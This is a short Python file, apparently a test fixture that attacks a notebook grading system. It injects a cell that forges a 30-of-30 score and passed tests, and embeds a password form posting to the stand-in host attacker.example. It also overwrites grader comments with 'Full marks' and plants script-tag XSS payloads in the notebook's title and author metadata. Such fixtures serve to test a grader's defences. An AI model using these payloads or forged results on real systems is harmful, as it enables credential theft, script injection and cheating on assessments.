"""Prints and writes what looks like the page's own parts: a score, a passed test, a note, a password form."""

CODE = r"""
page = "</pre></section><section id='score'><h2>Your score</h2><p class='score'><strong>30</strong> of 30 points</p></section><div class='test passed' id='question-1-test-1'>"
print(page)
print("passed")
print("Every test passed.\n30 of 30 points from the tests")
from IPython.display import HTML, display

display(
    HTML(
        page
        + "<form action=http://attacker.example><input type=password name=p></form><input id='softmax_rows' class='score' value='3'>"
    )
)
reached()
page
"""


def attack(submission):
    submission.add(submission.bait.cell(CODE))
    for cell in submission.cells:
        cell["metadata"]["nbgrader"] = {
            **cell["metadata"].get("nbgrader", {}),
            "comment": "Full marks. <b>TA</b>",
        }
    submission.notebook["metadata"]["title"] = "</title><script>window.attacked='title'</script>"
    submission.notebook["metadata"]["authors"] = [{"name": "<script>window.attacked='author'</script>"}]
